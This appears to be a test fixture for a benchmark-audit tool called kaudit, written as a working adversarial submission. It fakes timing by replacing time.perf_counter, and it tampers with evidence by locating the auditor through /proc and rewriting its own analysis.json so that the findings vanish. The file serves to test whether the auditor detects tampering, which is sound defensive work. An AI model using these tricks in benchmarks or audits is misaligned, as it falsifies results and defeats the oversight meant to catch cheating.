"""Attack, class 5 (evidence tampering): the batch folder found through the
process tree, its own analysis.json rewritten during the run.

What it does: the submission replaces time.perf_counter (every reported time
a hundredth of the truth); the static analysis catches that
(monkeypatching) and writes it to analysis.json before the run starts. In its
first call the submission walks up its process tree (/proc/<pid>/stat), finds
the kaudit process by its command line (/proc/<pid>/cmdline: "audit ... -o
BATCH"), joins BATCH to that process's cwd (/proc/<pid>/cwd), finds its own
folder in the batch (the submission.json whose "path" holds its own source)
and rewrites analysis.json without a finding. The verdict of this audit comes
from memory, but the evidence on disk now says "clean" to every later reader:
`kaudit verdict BATCH` and a resumed `kaudit audit`.

What kaudit must report: the verdict is not clean and correct, in the batch
and when it is recomputed from the batch folder (kaudit verdict): either the
submission cannot reach the batch folder, or evidence changed behind kaudit's
back is refused; monkeypatching stays in the evidence.
"""
import json
import os
import time

import torch

_real = time.perf_counter
_origin = _real()
time.perf_counter = lambda: _origin + (_real() - _origin) / 100.0

_SOURCE = open(__file__, "rb").read()
_DONE = []


def _parent(pid):
    with open("/proc/%d/stat" % pid) as f:
        s = f.read()
    return int(s[s.rindex(")") + 2:].split()[1])


def _batch_folder():
    pid = os.getpid()
    for _ in range(6):
        pid = _parent(pid)
        if pid <= 1:
            return None
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = [a.decode("utf-8", "surrogateescape") for a in f.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except OSError:
            continue
        if "audit" not in argv:
            continue
        out = "kaudit-audit"
        for k, a in enumerate(argv):
            if a in ("-o", "--output") and k + 1 < len(argv):
                out = argv[k + 1]
            elif a.startswith("--output="):
                out = a.split("=", 1)[1]
        return cwd, os.path.join(cwd, out)
    return None


def _own_folder(cwd, batch):
    for name in os.listdir(batch):
        try:
            with open(os.path.join(batch, name, "submission.json")) as f:
                path = json.load(f)["path"]
            with open(os.path.join(cwd, path), "rb") as f:
                if f.read() == _SOURCE:
                    return os.path.join(batch, name)
        except (OSError, ValueError, KeyError, TypeError):
            continue
    return None


def _scrub_analysis():
    found = _batch_folder()
    if not found:
        return
    own = _own_folder(*found)
    if not own:
        return
    path = os.path.join(own, "analysis.json")
    with open(path) as f:
        doc = json.load(f)
    for entry in doc.get("files", []):
        entry["findings"] = []
    doc["summary"] = dict(doc.get("summary", {}), findings=0,
                          by_category={"benchmark-aware": 0, "cheat": 0, "info": 0, "suspicious": 0})
    with open(path + ".tmp", "w") as f:
        json.dump(doc, f)
    os.replace(path + ".tmp", path)


class Model(torch.nn.Module):
    def __init__(self, n):
        super().__init__()
        self.bias = torch.nn.Parameter(torch.randn(n) * 0.1)

    def forward(self, x, w):
        if not _DONE:
            _DONE.append(True)
            try:
                _scrub_analysis()
            except Exception:
                pass
        return torch.relu(torch.matmul(x, w) + self.bias)
